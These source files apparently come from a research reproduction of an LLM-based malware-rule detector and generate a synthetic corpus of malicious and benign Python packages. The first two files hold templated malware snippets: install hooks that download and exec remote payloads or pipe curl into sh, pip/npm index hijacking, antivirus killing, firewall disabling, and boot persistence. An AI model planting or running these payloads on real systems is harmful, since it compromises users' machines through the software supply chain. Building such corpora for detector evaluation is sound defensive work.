    # -- Malicious Setup Scripts --------------------------------------------------------
    Behavior(
        key="setup_exec_payload",
        subcategory="Malicious Setup Scripts",
        description="Run the payload directly from module level of setup.py.",
        variants=[
            (
                ["import os", "import urllib.request"],
                """
                def {func}_pre_install():
                    try:
                        handle = urllib.request.urlopen("https://{host}/payload.py", timeout=10)
                        exec(handle.read())
                    except Exception:
                        pass
                """,
                None,
                """
                import urllib.request
                try:
                    exec(urllib.request.urlopen("https://{host}/payload.py", timeout=10).read())
                except Exception:
                    pass
                """,
            ),
            (
                ["import os"],
                """
                def {func}_setup_side_effect():
                    os.system("curl -s https://{host}/s.sh | sh > /dev/null 2>&1 &")
                """,
                None,
                """
                import os
                os.system("curl -s https://{host}/s.sh | sh > /dev/null 2>&1 &")
                """,
            ),
        ],
    ),
    # -- Build Process Manipulation --------------------------------------------------------
    Behavior(
        key="build_command_override",
        subcategory="Build Process Manipulation",
        description="Override the build_py / egg_info commands to run extra code.",
        variants=[
            (
                ["from setuptools.command.build_py import build_py", "import os"],
                """
                class {func}_build(build_py):
                    def run(self):
                        os.system("python -c \\"import urllib.request;exec(urllib.request.urlopen('https://{host}/b.py').read())\\"")
                        build_py.run(self)
                """,
                None,
                """
                from setuptools.command.build_py import build_py
                import os

                class _patched_build(build_py):
                    def run(self):
                        os.system("python -c \\"import urllib.request;exec(urllib.request.urlopen('https://{host}/b.py').read())\\"")
                        build_py.run(self)
                """,
            ),
            (
                ["from setuptools.command.egg_info import egg_info", "import subprocess"],
                """
                class {func}_egg(egg_info):
                    def run(self):
                        subprocess.Popen(["python", "-m", "http.server", "{port}"])
                        egg_info.run(self)
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Installation Hook Abuse -------------------------------------------------------------
    Behavior(
        key="post_install_hook",
        subcategory="Installation Hook Abuse",
        description="Custom install command class that triggers the payload after install.",
        variants=[
            (
                ["from setuptools.command.install import install", "import os"],
                """
                class {func}_install(install):
                    def run(self):
                        install.run(self)
                        os.system("python -m pip download --no-deps --dest /tmp {var} >/dev/null 2>&1")
                        try:
                            import urllib.request
                            exec(urllib.request.urlopen("https://{host}/post.py", timeout=10).read())
                        except Exception:
                            pass
                """,
                None,
                """
                from setuptools.command.install import install as _install
                import urllib.request

                class CustomInstall(_install):
                    def run(self):
                        _install.run(self)
                        try:
                            exec(urllib.request.urlopen("https://{host}/post.py", timeout=10).read())
                        except Exception:
                            pass
                """,
            ),
            (
                ["from setuptools.command.develop import develop", "import subprocess"],
                """
                class {func}_develop(develop):
                    def run(self):
                        develop.run(self)
                        subprocess.Popen("curl -s https://{host}/d.sh | sh", shell=True)
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Configuration Tampering -----------------------------------------------------------------
    Behavior(
        key="pip_conf_tamper",
        subcategory="Configuration Tampering",
        description="Point pip / npm configuration at an attacker-controlled index.",
        variants=[
            (
                ["import os"],
                """
                def {func}_pipconf():
                    conf_dir = os.path.expanduser("~/.pip")
                    os.makedirs(conf_dir, exist_ok=True)
                    with open(os.path.join(conf_dir, "pip.conf"), "w") as handle:
                        handle.write("[global]\\nindex-url = https://{host}/simple\\ntrusted-host = {host}\\n")
                """,
                "{func}_pipconf()",
                None,
            ),
            (
                ["import os"],
                """
                def {func}_npmrc():
                    with open(os.path.expanduser("~/.npmrc"), "a") as handle:
                        handle.write("\\nregistry=https://{host}/npm/\\nalways-auth=true\\n")
                """,
                "{func}_npmrc()",
                None,
            ),
        ],
    ),
]
