"""System-harming behaviours (paper Table XII category 1, "Malicious Behavior").

Subcategories: Privilege Escalation, Process Manipulation, System
Configuration Changes, Persistence Mechanisms.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- Privilege Escalation -------------------------------------------------------
    Behavior(
        key="privilege_escalation_setuid",
        subcategory="Privilege Escalation",
        description="Attempt to elevate privileges via setuid/sudo tricks.",
        variants=[
            (
                ["import os"],
                """
                def {func}_elevate():
                    try:
                        os.setuid(0)
                        os.setgid(0)
                        return True
                    except PermissionError:
                        os.system("sudo -n true && sudo cp /bin/sh /tmp/.{var} && sudo chmod 4755 /tmp/.{var}")
                        return False
                """,
                "{func}_elevate()",
                None,
            ),
            (
                ["import ctypes", "import sys"],
                """
                def {func}_runas():
                    if sys.platform == "win32":
                        ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable,
                                                            "-m {var}", None, 0)
                """,
                "{func}_runas()",
                None,
            ),
        ],
    ),
    # -- Process Manipulation ---------------------------------------------------------
    Behavior(
        key="process_kill_av",
        subcategory="Process Manipulation",
        description="Enumerate processes and kill security tooling.",
        variants=[
            (
                ["import os", "import subprocess"],
                """
                def {func}_killers():
                    blocklist = ("defender", "avast", "kaspersky", "wireshark", "procmon", "taskmgr")
                    listing = subprocess.run("tasklist", shell=True, capture_output=True, text=True).stdout
                    for line in listing.splitlines():
                        name = line.split(" ")[0].lower()
                        if any(tag in name for tag in blocklist):
                            os.system("taskkill /F /IM " + name)
                """,
                "{func}_killers()",
                None,
            ),
            (
                ["import os", "import signal"],
                """
                def {func}_terminate(pids):
                    for pid in pids:
                        try:
                            os.kill(pid, signal.SIGKILL)
                        except (ProcessLookupError, PermissionError):
                            continue
                """,
                None,
                None,
            ),
        ],
    ),
    # -- System Configuration Changes ----------------------------------------------------
    Behavior(
        key="system_config_tamper",
        subcategory="System Configuration Changes",
        description="Rewrite hosts file / firewall / registry settings.",
        variants=[
            (
                ["import os"],
                """
                def {func}_hosts():
                    hosts_path = "/etc/hosts" if os.name != "nt" else r"C:\\Windows\\System32\\drivers\\etc\\hosts"
                    try:
                        with open(hosts_path, "a") as handle:
                            handle.write("\\n127.0.0.1 virustotal.com\\n127.0.0.1 hybrid-analysis.com\\n")
                    except PermissionError:
                        pass
                """,
                "{func}_hosts()",
                None,
            ),
            (
                ["import subprocess", "import sys"],
                """
                def {func}_firewall_off():
                    if sys.platform == "win32":
                        subprocess.run("netsh advfirewall set allprofiles state off", shell=True)
                    else:
                        subprocess.run("iptables -F", shell=True)
                """,
                "{func}_firewall_off()",
                None,
            ),
            (
                ["import winreg"],
                """
                def {func}_registry():
                    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
                                         "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Policies",
                                         0, winreg.KEY_SET_VALUE)
                    winreg.SetValueEx(key, "DisableTaskMgr", 0, winreg.REG_DWORD, 1)
                    winreg.CloseKey(key)
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Persistence Mechanisms ------------------------------------------------------------
    Behavior(
        key="persistence_autostart",
        subcategory="Persistence Mechanisms",
        description="Install the payload to run at every boot / login.",
        variants=[
            (
                ["import os", "import sys", "import shutil"],
                """
                def {func}_startup():
                    startup = os.path.join(os.path.expanduser("~"),
                                           "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup")
                    if os.path.isdir(startup):
                        shutil.copy2(sys.argv[0], os.path.join(startup, "WindowsUpdate.py"))
                """,
                "{func}_startup()",
                None,
            ),
            (
                ["import os", "import sys"],
                """
                def {func}_cron():
                    entry = "@reboot python3 " + os.path.abspath(sys.argv[0]) + " >/dev/null 2>&1"
                    os.system("(crontab -l 2>/dev/null; echo '" + entry + "') | crontab -")
                """,
                "{func}_cron()",
                None,
            ),
            (
                ["import os", "import sys"],
                """
                def {func}_rcfile():
                    bashrc = os.path.expanduser("~/.bashrc")
                    line = "\\npython3 " + os.path.abspath(sys.argv[0]) + " &\\n"
                    with open(bashrc, "a") as handle:
                        handle.write(line)
                """,
                "{func}_rcfile()",
                None,
            ),
            (
                ["import winreg", "import sys"],
                """
                def {func}_runkey():
                    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
                                         "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
                                         0, winreg.KEY_SET_VALUE)
                    winreg.SetValueEx(key, "SystemTelemetry", 0, winreg.REG_SZ, sys.executable)
                    winreg.CloseKey(key)
                """,
                "{func}_runkey()",
                None,
            ),
        ],
    ),
]
