"""In-memory model of an OSS software package.

A :class:`Package` bundles the pieces RuleLLM consumes: source files, the
metadata a registry would expose (``PKG-INFO`` / ``setup.py`` / ``egg-info``,
see paper Figure 1) and the ground-truth labels the evaluation needs
(malicious or benign, malware family, injected behaviours).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Iterable, Iterator, Optional

from repro.utils.hashing import content_signature
from repro.utils.text import count_loc

MALWARE = "malware"
BENIGN = "benign"


@dataclass(frozen=True)
class PackageFile:
    """A single file inside a package."""

    path: str
    content: str

    @property
    def is_python(self) -> bool:
        return self.path.endswith(".py")

    @property
    def is_javascript(self) -> bool:
        return self.path.endswith(".js")

    @property
    def is_source(self) -> bool:
        return self.is_python or self.is_javascript

    @property
    def loc(self) -> int:
        return count_loc(self.content)


@dataclass
class PackageMetadata:
    """Registry-style metadata for a package (paper Section III-A).

    The paper extracts this from three places -- the ``pkg-info`` file, the
    ``setup`` file and the registry ``egg-info`` / JSON API -- and feeds the
    JSON form to the LLM as one *basic unit*.
    """

    name: str
    version: str = "0.0.0"
    summary: str = ""
    description: str = ""
    author: str = ""
    author_email: str = ""
    home_page: str = ""
    license: str = ""
    keywords: list[str] = field(default_factory=list)
    classifiers: list[str] = field(default_factory=list)
    dependencies: list[str] = field(default_factory=list)

    # -- serialisation -----------------------------------------------------
    def to_json(self) -> str:
        """Render the metadata as the JSON document handed to the LLM."""
        return json.dumps(
            {
                "name": self.name,
                "version": self.version,
                "summary": self.summary,
                "description": self.description,
                "author": self.author,
                "author_email": self.author_email,
                "home_page": self.home_page,
                "license": self.license,
                "keywords": list(self.keywords),
                "classifiers": list(self.classifiers),
                "dependencies": list(self.dependencies),
            },
            indent=2,
            sort_keys=True,
        )

    @classmethod
    def from_json(cls, text: str) -> "PackageMetadata":
        data = json.loads(text)
        return cls(
            name=data.get("name", ""),
            version=data.get("version", "0.0.0"),
            summary=data.get("summary", ""),
            description=data.get("description", ""),
            author=data.get("author", ""),
            author_email=data.get("author_email", ""),
            home_page=data.get("home_page", ""),
            license=data.get("license", ""),
            keywords=list(data.get("keywords", [])),
            classifiers=list(data.get("classifiers", [])),
            dependencies=list(data.get("dependencies", [])),
        )

    def to_pkg_info(self) -> str:
        """Render a ``PKG-INFO`` style metadata file."""
        lines = [
            "Metadata-Version: 2.1",
            f"Name: {self.name}",
            f"Version: {self.version}",
            f"Summary: {self.summary}",
            f"Home-page: {self.home_page}",
            f"Author: {self.author}",
            f"Author-email: {self.author_email}",
            f"License: {self.license}",
        ]
        for classifier in self.classifiers:
            lines.append(f"Classifier: {classifier}")
        for dep in self.dependencies:
            lines.append(f"Requires-Dist: {dep}")
        if self.keywords:
            lines.append("Keywords: " + ",".join(self.keywords))
        lines.append("")
        lines.append(self.description)
        return "\n".join(lines) + "\n"

    def to_setup_py(self, extra_body: str = "") -> str:
        """Render a ``setup.py`` that declares this metadata.

        ``extra_body`` is code injected *before* the ``setup()`` call; the
        malware generator uses it for install-time payloads (a classic
        supply-chain attack vector the paper's "Setup Code" category covers).
        """
        deps = ", ".join(repr(d) for d in self.dependencies)
        body = extra_body.rstrip()
        if body:
            body += "\n\n"
        return (
            "from setuptools import setup, find_packages\n\n"
            + body
            + "setup(\n"
            + f"    name={self.name!r},\n"
            + f"    version={self.version!r},\n"
            + f"    description={self.summary!r},\n"
            + f"    long_description={self.description!r},\n"
            + f"    author={self.author!r},\n"
            + f"    author_email={self.author_email!r},\n"
            + f"    url={self.home_page!r},\n"
            + f"    license={self.license!r},\n"
            + f"    packages=find_packages(),\n"
            + f"    install_requires=[{deps}],\n"
            + ")\n"
        )


@dataclass
class Package:
    """A software package with ground-truth labels for evaluation."""

    name: str
    version: str
    metadata: PackageMetadata
    files: list[PackageFile] = field(default_factory=list)
    label: str = BENIGN
    ecosystem: str = "pypi"
    family: Optional[str] = None
    behaviors: list[str] = field(default_factory=list)
    obfuscated: bool = False

    def __post_init__(self) -> None:
        if self.label not in (MALWARE, BENIGN):
            raise ValueError(f"label must be {MALWARE!r} or {BENIGN!r}, got {self.label!r}")

    # -- identity ----------------------------------------------------------
    @property
    def identifier(self) -> str:
        """Registry identity: ``name==version``."""
        return f"{self.name}=={self.version}"

    @property
    def is_malicious(self) -> bool:
        return self.label == MALWARE

    @property
    def signature(self) -> str:
        """Content signature used for deduplication (order-insensitive)."""
        return content_signature(f.content for f in self.files)

    # -- file access ---------------------------------------------------------
    @property
    def source_files(self) -> list[PackageFile]:
        return [f for f in self.files if f.is_source]

    def file(self, path: str) -> Optional[PackageFile]:
        for f in self.files:
            if f.path == path:
                return f
        return None

    def iter_paths(self) -> Iterator[str]:
        for f in self.files:
            yield f.path

    def add_file(self, path: str, content: str) -> PackageFile:
        existing = self.file(path)
        if existing is not None:
            raise ValueError(f"duplicate file path in package {self.name}: {path}")
        new_file = PackageFile(path=path, content=content)
        self.files.append(new_file)
        return new_file

    # -- aggregate views -----------------------------------------------------
    @property
    def all_text(self) -> str:
        """Concatenation of every file's content (what YARA scans)."""
        return "\n".join(f.content for f in self.files)

    @property
    def source_text(self) -> str:
        return "\n".join(f.content for f in self.source_files)

    @property
    def loc(self) -> int:
        """Non-blank, non-comment source lines across all source files."""
        return sum(f.loc for f in self.source_files)

    def summary_line(self) -> str:
        tags = ",".join(self.behaviors) if self.behaviors else "-"
        return (
            f"{self.identifier} [{self.label}] files={len(self.files)} "
            f"loc={self.loc} family={self.family or '-'} behaviors={tags}"
        )


def partition_by_label(packages: Iterable[Package]) -> tuple[list[Package], list[Package]]:
    """Split packages into (malicious, benign) lists preserving order."""
    malicious: list[Package] = []
    benign: list[Package] = []
    for pkg in packages:
        (malicious if pkg.is_malicious else benign).append(pkg)
    return malicious, benign
