"""Dataset assembly (paper Table VI).

``build_dataset`` glues the malware and benign generators together, applies
deduplication and exposes the statistics the paper reports: package counts
before/after dedup and the average lines of code per class.

A ``scale`` knob shrinks the corpus proportionally so unit tests and CI-sized
benchmark runs stay fast while the full paper-scale corpus
(3,200 malware / 500 benign) remains one configuration away.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.corpus.benign_generator import BenignGenerator, BenignGeneratorConfig
from repro.corpus.dedup import DedupResult, deduplicate
from repro.corpus.malware_generator import MalwareGenerator, MalwareGeneratorConfig
from repro.corpus.package import BENIGN, MALWARE, Package


@dataclass
class DatasetConfig:
    """Configuration for one evaluation corpus."""

    malware_count: int = 3200
    benign_count: int = 500
    seed: int = 1633
    scale: float = 1.0
    duplicate_fraction: float = 0.49
    obfuscation_probability: float = 0.22
    benign_modules_range: tuple[int, int] = (6, 12)
    benign_pieces_per_module_range: tuple[int, int] = (12, 26)
    risky_piece_probability: float = 0.10

    def __post_init__(self) -> None:
        if self.scale <= 0:
            raise ValueError("scale must be positive")

    @property
    def scaled_malware_count(self) -> int:
        return max(4, round(self.malware_count * self.scale))

    @property
    def scaled_benign_count(self) -> int:
        return max(2, round(self.benign_count * self.scale))

    @classmethod
    def small(cls, seed: int = 1633) -> "DatasetConfig":
        """A corpus sized for unit tests (a few dozen packages)."""
        return cls(seed=seed, scale=0.012, benign_modules_range=(2, 3),
                   benign_pieces_per_module_range=(3, 6))

    @classmethod
    def medium(cls, seed: int = 1633) -> "DatasetConfig":
        """A corpus sized for benchmark runs (a few hundred packages)."""
        return cls(seed=seed, scale=0.10, benign_modules_range=(3, 5),
                   benign_pieces_per_module_range=(6, 12))


@dataclass
class DatasetStatistics:
    """The quantities reported in the paper's Table VI."""

    malware_total: int
    malware_unique: int
    malware_avg_loc: float
    benign_total: int
    benign_unique: int
    benign_avg_loc: float

    def rows(self) -> list[tuple[str, int, int, float]]:
        """Rows shaped like Table VI: category, pkg num, dedup num, avg LoC."""
        return [
            ("Malware", self.malware_total, self.malware_unique, self.malware_avg_loc),
            ("Legitimate", self.benign_total, self.benign_unique, self.benign_avg_loc),
        ]


@dataclass
class Dataset:
    """A labelled corpus of malicious and legitimate packages."""

    config: DatasetConfig
    malware_raw: list[Package] = field(default_factory=list)
    malware: list[Package] = field(default_factory=list)
    benign: list[Package] = field(default_factory=list)
    dedup_result: DedupResult | None = None

    @property
    def packages(self) -> list[Package]:
        """Deduplicated malware plus all benign packages (the evaluation corpus)."""
        return self.malware + self.benign

    @property
    def labels(self) -> dict[str, str]:
        return {pkg.identifier: pkg.label for pkg in self.packages}

    def families(self) -> dict[str, list[Package]]:
        """Group the deduplicated malware by generator family."""
        grouped: dict[str, list[Package]] = {}
        for pkg in self.malware:
            grouped.setdefault(pkg.family or "unknown", []).append(pkg)
        return grouped

    def statistics(self) -> DatasetStatistics:
        def avg_loc(packages: list[Package]) -> float:
            if not packages:
                return 0.0
            return sum(p.loc for p in packages) / len(packages)

        return DatasetStatistics(
            malware_total=len(self.malware_raw),
            malware_unique=len(self.malware),
            malware_avg_loc=avg_loc(self.malware),
            benign_total=len(self.benign),
            benign_unique=len(self.benign),
            benign_avg_loc=avg_loc(self.benign),
        )


def build_dataset(config: DatasetConfig | None = None) -> Dataset:
    """Generate, deduplicate and assemble an evaluation corpus."""
    config = config or DatasetConfig()

    malware_config = MalwareGeneratorConfig(
        package_count=config.scaled_malware_count,
        seed=config.seed,
        duplicate_fraction=config.duplicate_fraction,
        obfuscation_probability=config.obfuscation_probability,
    )
    benign_config = BenignGeneratorConfig(
        package_count=config.scaled_benign_count,
        seed=config.seed + 1,
        modules_range=config.benign_modules_range,
        pieces_per_module_range=config.benign_pieces_per_module_range,
        risky_piece_probability=config.risky_piece_probability,
    )

    malware_raw = MalwareGenerator(malware_config).generate()
    benign = BenignGenerator(benign_config).generate()
    dedup_result = deduplicate(malware_raw)

    return Dataset(
        config=config,
        malware_raw=malware_raw,
        malware=dedup_result.unique,
        benign=benign,
        dedup_result=dedup_result,
    )
