"""Benign filler-code generation.

Both generators need plausible, boring library code: the benign generator is
mostly made of it (the paper's legitimate packages average ~3,052 LoC) and the
malware generator pads payloads with a little of it (malicious packages
average ~424 LoC and usually masquerade as real utilities).

Fillers are small template-based code pieces (functions and classes) with
randomised identifiers.  A few of them intentionally use *generic* sensitive
APIs in legitimate ways -- ``subprocess`` for git commands, ``os.environ`` for
configuration, ``requests`` against well-known hosts, ``base64`` for data
decoding -- because real popular packages do, and those generic usages are
exactly what overly broad rules false-positive on (driving the ~85% precision
shape the paper reports).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.utils.seeding import DeterministicRandom
from repro.utils.text import dedent_code

_NOUNS = (
    "record", "entry", "item", "node", "token", "field", "row", "chunk",
    "segment", "bucket", "frame", "batch", "event", "metric", "option",
)
_VERBS = (
    "parse", "merge", "filter", "collect", "resolve", "split", "convert",
    "normalize", "validate", "serialize", "group", "index", "format", "scan",
)
_ADJS = ("cached", "lazy", "sorted", "unique", "active", "pending", "stale", "primary")


@dataclass(frozen=True)
class FillerPiece:
    """One rendered filler code block."""

    imports: tuple[str, ...]
    code: str
    risky: bool = False


def _ident(rng: DeterministicRandom) -> str:
    return rng.choice(_VERBS) + "_" + rng.choice(_NOUNS) + rng.choice(("", "s", "_set", "_map"))


def _classname(rng: DeterministicRandom) -> str:
    return rng.choice(_ADJS).title() + rng.choice(_NOUNS).title() + rng.choice(("Manager", "Store", "Builder", "Index", ""))


# -- plain filler templates ---------------------------------------------------

def _simple_function(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    noun = rng.choice(_NOUNS)
    code = dedent_code(
        f'''
        def {name}(items, key=None):
            """Group *items* by ``key`` and drop empty {noun} groups."""
            grouped = dict()
            for item in items:
                bucket = key(item) if key is not None else item
                grouped.setdefault(bucket, []).append(item)
            return dict((k, v) for k, v in grouped.items() if v)
        '''
    )
    return FillerPiece(imports=(), code=code)


def _math_function(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    factor = rng.randint(2, 9)
    code = dedent_code(
        f'''
        def {name}(values, window={factor}):
            """Return the moving average of *values* over ``window`` samples."""
            if window <= 0:
                raise ValueError("window must be positive")
            output = []
            for index in range(len(values)):
                start = max(0, index - window + 1)
                chunk = values[start:index + 1]
                output.append(sum(chunk) / len(chunk))
            return output
        '''
    )
    return FillerPiece(imports=(), code=code)


def _text_function(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    sep = rng.choice((",", ";", "|", "\\t"))
    code = dedent_code(
        f'''
        def {name}(text, limit=None):
            """Split *text* on {sep!r} trimming whitespace around each field."""
            parts = [part.strip() for part in text.split("{sep}") if part.strip()]
            if limit is not None:
                parts = parts[:limit]
            return parts
        '''
    )
    return FillerPiece(imports=(), code=code)


def _dataclass_like(rng: DeterministicRandom) -> FillerPiece:
    cls = _classname(rng)
    noun = rng.choice(_NOUNS)
    code = dedent_code(
        f'''
        class {cls}:
            """In-memory registry of {noun} objects keyed by name."""

            def __init__(self):
                self._entries = dict()

            def add(self, name, value):
                if name in self._entries:
                    raise KeyError("duplicate {noun}: " + name)
                self._entries[name] = value
                return value

            def get(self, name, default=None):
                return self._entries.get(name, default)

            def remove(self, name):
                self._entries.pop(name, None)

            def __len__(self):
                return len(self._entries)

            def __iter__(self):
                return iter(sorted(self._entries))
        '''
    )
    return FillerPiece(imports=(), code=code)


def _retry_helper(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    attempts = rng.randint(3, 6)
    code = dedent_code(
        f'''
        def {name}(operation, attempts={attempts}, delay=0.1):
            """Call *operation* retrying up to ``attempts`` times with backoff."""
            last_error = None
            for attempt in range(attempts):
                try:
                    return operation()
                except Exception as error:
                    last_error = error
                    time.sleep(delay * (attempt + 1))
            raise last_error
        '''
    )
    return FillerPiece(imports=("import time",), code=code)


def _json_config(rng: DeterministicRandom) -> FillerPiece:
    cls = _classname(rng)
    code = dedent_code(
        f'''
        class {cls}Config:
            """Load and validate a JSON configuration file."""

            def __init__(self, path):
                self.path = path
                self.values = dict()

            def load(self):
                with open(self.path, "r", encoding="utf-8") as handle:
                    self.values = json.load(handle)
                return self.values

            def require(self, key):
                if key not in self.values:
                    raise KeyError("missing configuration key: " + key)
                return self.values[key]

            def dump(self, path=None):
                target = path or self.path
                with open(target, "w", encoding="utf-8") as handle:
                    json.dump(self.values, handle, indent=2, sort_keys=True)
        '''
    )
    return FillerPiece(imports=("import json",), code=code)


def _iterator_helper(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    size = rng.randint(16, 256)
    code = dedent_code(
        f'''
        def {name}(iterable, size={size}):
            """Yield lists of at most ``size`` consecutive elements."""
            batch = []
            for element in iterable:
                batch.append(element)
                if len(batch) >= size:
                    yield batch
                    batch = []
            if batch:
                yield batch
        '''
    )
    return FillerPiece(imports=(), code=code)


def _logging_wrapper(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    code = dedent_code(
        f'''
        def {name}(logger, level="INFO"):
            """Return a decorator logging call duration at the given level."""
            def decorator(func):
                def wrapper(*args, **kwargs):
                    started = time.monotonic()
                    try:
                        return func(*args, **kwargs)
                    finally:
                        elapsed = time.monotonic() - started
                        logger.log(getattr(logging, level, logging.INFO),
                                   "%s took %.3fs", func.__name__, elapsed)
                return wrapper
            return decorator
        '''
    )
    return FillerPiece(imports=("import time", "import logging"), code=code)


def _cache_class(rng: DeterministicRandom) -> FillerPiece:
    cls = _classname(rng)
    capacity = rng.choice((64, 128, 256, 512))
    code = dedent_code(
        f'''
        class {cls}Cache:
            """A tiny LRU cache with a fixed capacity of {capacity} entries."""

            def __init__(self, capacity={capacity}):
                self.capacity = capacity
                self._data = collections.OrderedDict()

            def get(self, key, default=None):
                if key not in self._data:
                    return default
                self._data.move_to_end(key)
                return self._data[key]

            def put(self, key, value):
                self._data[key] = value
                self._data.move_to_end(key)
                while len(self._data) > self.capacity:
                    self._data.popitem(last=False)

            def clear(self):
                self._data.clear()
        '''
    )
    return FillerPiece(imports=("import collections",), code=code)


def _validation_function(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    maxlen = rng.randint(32, 128)
    code = dedent_code(
        f'''
        def {name}(value, allow_empty=False):
            """Validate that *value* is a short identifier-like string."""
            if value is None or value == "":
                if allow_empty:
                    return ""
                raise ValueError("value may not be empty")
            if not isinstance(value, str):
                raise TypeError("expected str, got " + type(value).__name__)
            if len(value) > {maxlen}:
                raise ValueError("value too long")
            if not value.replace("-", "_").replace(".", "_").isidentifier():
                raise ValueError("invalid characters in value: " + value)
            return value
        '''
    )
    return FillerPiece(imports=(), code=code)


# -- "risky but benign" templates ---------------------------------------------
# Legitimate uses of APIs that naive rules treat as suspicious.

def _benign_subprocess(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    code = dedent_code(
        f'''
        def {name}(repository="."):
            """Return the current git revision of *repository* (best effort)."""
            try:
                output = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repository,
                                        capture_output=True, text=True, timeout=5)
            except (OSError, subprocess.TimeoutExpired):
                return None
            return output.stdout.strip() or None
        '''
    )
    return FillerPiece(imports=("import subprocess",), code=code, risky=True)


def _benign_environ(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    prefix = rng.choice(("APP", "SERVICE", "WORKER", "CLIENT"))
    code = dedent_code(
        f'''
        def {name}(defaults=None):
            """Read {prefix}_* environment variables into a settings dictionary."""
            settings = dict(defaults or dict())
            for key, value in os.environ.items():
                if key.startswith("{prefix}_"):
                    settings[key[{len(prefix) + 1}:].lower()] = value
            return settings
        '''
    )
    return FillerPiece(imports=("import os",), code=code, risky=True)


def _benign_http(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    host = rng.choice(("api.github.com", "pypi.org", "httpbin.org", "example.com"))
    code = dedent_code(
        f'''
        def {name}(path, params=None, timeout=10):
            """GET ``https://{host}`` + *path* returning decoded JSON."""
            response = requests.get("https://{host}/" + path.lstrip("/"),
                                    params=params, timeout=timeout)
            response.raise_for_status()
            return response.json()
        '''
    )
    return FillerPiece(imports=("import requests",), code=code, risky=True)


def _benign_base64(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    code = dedent_code(
        f'''
        def {name}(blob):
            """Decode a base64 payload column coming from the storage backend."""
            if isinstance(blob, str):
                blob = blob.encode("ascii")
            decoded = base64.b64decode(blob)
            return json.loads(decoded) if decoded[:1] in (b"[", b"{{") else decoded
        '''
    )
    return FillerPiece(imports=("import base64", "import json"), code=code, risky=True)


def _benign_fileops(rng: DeterministicRandom) -> FillerPiece:
    name = _ident(rng)
    suffix = rng.choice((".tmp", ".bak", ".cache", ".lock"))
    code = dedent_code(
        f'''
        def {name}(directory, older_than_days=7):
            """Remove stale ``*{suffix}`` files under *directory*."""
            cutoff = time.time() - older_than_days * 86400
            removed = []
            for dirpath, _dirnames, filenames in os.walk(directory):
                for filename in filenames:
                    if not filename.endswith("{suffix}"):
                        continue
                    full = os.path.join(dirpath, filename)
                    if os.path.getmtime(full) < cutoff:
                        os.remove(full)
                        removed.append(full)
            return removed
        '''
    )
    return FillerPiece(imports=("import os", "import time"), code=code, risky=True)


_PLAIN_FILLERS = (
    _simple_function,
    _math_function,
    _text_function,
    _dataclass_like,
    _retry_helper,
    _json_config,
    _iterator_helper,
    _logging_wrapper,
    _cache_class,
    _validation_function,
)

_RISKY_FILLERS = (
    _benign_subprocess,
    _benign_environ,
    _benign_http,
    _benign_base64,
    _benign_fileops,
)


def common_library_pieces(count: int = 36, seed: int = 777) -> tuple[FillerPiece, ...]:
    """A fixed pool of "vendored" helper snippets shared across the ecosystem.

    Real supply-chain malware frequently trojanises an existing library: the
    upload is mostly legitimate vendored code with a payload spliced in.  Both
    generators draw from this pool (benign packages vendor some of it, a
    fraction of malware families copy it verbatim), so statistical signature
    methods that score strings by frequency/unusualness inherit exactly the
    benign-overlap problem the paper describes for the score-based baseline.
    """
    rng = DeterministicRandom(seed, "common-library")
    return tuple(render_filler(rng, risky_probability=0.05) for _ in range(count))


_COMMON_POOL_CACHE: dict[tuple[int, int], tuple[FillerPiece, ...]] = {}


def cached_common_pieces(count: int = 36, seed: int = 777) -> tuple[FillerPiece, ...]:
    key = (count, seed)
    if key not in _COMMON_POOL_CACHE:
        _COMMON_POOL_CACHE[key] = common_library_pieces(count, seed)
    return _COMMON_POOL_CACHE[key]


def render_vendored_module(rng: DeterministicRandom, pieces: int,
                           docstring: str = "Vendored helpers.") -> str:
    """Render a module assembled from the shared common-library pool."""
    pool = cached_common_pieces()
    chosen = rng.sample(list(pool), min(pieces, len(pool)))
    imports = sorted({imp for piece in chosen for imp in piece.imports})
    parts = [f'"""{docstring}"""', ""]
    parts.extend(imports)
    for piece in chosen:
        parts.append("")
        parts.append(piece.code.rstrip())
    return "\n".join(parts) + "\n"


def render_filler(rng: DeterministicRandom, risky_probability: float = 0.0) -> FillerPiece:
    """Render one filler piece; with the given probability pick a risky one."""
    if risky_probability > 0 and rng.coin(risky_probability):
        factory = rng.choice(_RISKY_FILLERS)
    else:
        factory = rng.choice(_PLAIN_FILLERS)
    return factory(rng)


def render_module(
    rng: DeterministicRandom,
    pieces: int,
    risky_probability: float = 0.0,
    docstring: str = "Utility helpers.",
) -> str:
    """Render a full module made of ``pieces`` filler blocks."""
    rendered = [render_filler(rng, risky_probability) for _ in range(pieces)]
    imports = sorted({imp for piece in rendered for imp in piece.imports})
    parts = [f'"""{docstring}"""', ""]
    parts.extend(imports)
    if imports:
        parts.append("")
    for piece in rendered:
        parts.append("")
        parts.append(piece.code.rstrip())
    return "\n".join(parts) + "\n"
